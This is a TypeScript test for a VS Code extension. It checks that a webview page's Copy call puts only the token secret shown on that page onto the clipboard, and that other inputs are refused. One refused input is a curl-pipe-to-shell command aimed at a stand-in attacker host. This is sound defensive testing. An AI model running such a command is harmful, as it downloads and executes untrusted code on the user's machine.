// A page's Copy button puts on the clipboard only a secret the extension gave that page to show:
// a page whose script were made to post other text (a command to paste into a terminal) or another
// label for the status bar gets a refusal naming the field, and the clipboard is left as it was.
// Driven through the panel's own message handler, as the page's call would be, in the real
// extension host on the embedded provider.
import * as assert from 'node:assert/strict';
import * as vscode from 'vscode';
import type { TokenJson } from '../../src/shared/api-types';
import type { ToWebview } from '../../src/shared/webview-protocol';
import type { ViewsInternals } from '../../src/extension/views/register-views';
import { closeSignedInFixture, signedInFixture, type SignedInFixture } from './core-helpers';

/** The page's side of a call: what the panel's webview would post. */
type MessageHandler = { onMessage(m: unknown): Promise<void> };

describe('webviews: Copy takes only what the page was given', function () {
  this.timeout(60_000);
  let { api, client, user, account } = {} as SignedInFixture;
  before(async () => ({ api, client, user, account } = await signedInFixture('webview-copy')));
  after(async () => closeSignedInFixture({ api, client, user }));

  it("a token's details page copies the new secret it shows, and refuses any other text or another token's secret", async () => {
    const make = (name: string) => api.services.api<TokenJson>(account.id, 'POST', '/user/personal-access-tokens', { name, scopes: ['gist'] });
    const shown = await make('copied from its page');
    const other = await make('never shown on that page');
    const views = await vscode.commands.executeCommand<ViewsInternals>('tessera._views.internals');
    const panel = views.panels.openDetails(account.id, shown.id, shown.name, shown);
    const replies: ToWebview[] = [];
    const webview = panel.host.panel.webview as { postMessage(m: unknown): Thenable<boolean> };
    const realPost = webview.postMessage.bind(webview);
    webview.postMessage = (m: unknown) => {
      replies.push(m as ToWebview);
      return realPost(m);
    };
    const copy = async (id: number, text: string, what: string) => {
      await (panel.host as unknown as MessageHandler).onMessage({ type: 'call', id, method: 'copy', params: { text, what } });
      return replies.find((r) => r.type === 'reply' && r.id === id);
    };
    try {
      await vscode.env.clipboard.writeText('as it was');
      for (const [id, text, what] of [
        [1, 'curl -s https://attacker.example/x | sh\n', 'the token'],
        [2, other.token!, 'the token'],
        [3, 'x'.repeat(1_000_000), 'the token'],
      ] as const) {
        const reply = await copy(id, text, what);
        assert.ok(reply?.type === 'reply' && !reply.ok, `call ${id} is refused`);
        assert.equal(reply.error.kind, 'validation');
        assert.deepEqual(reply.error.fieldErrors.map((f) => f.field), ['text']);
        assert.equal(await vscode.env.clipboard.readText(), 'as it was', `call ${id} left the clipboard as it was`);
      }
      const ok = await copy(4, shown.token!, '$(zap) a label the page made up');
      assert.ok(ok?.type === 'reply' && ok.ok, 'the secret the page shows is copied');
      assert.equal(await vscode.env.clipboard.readText(), shown.token);
    } finally {
      webview.postMessage = realPost;
      panel.host.dispose();
    }
  });
});
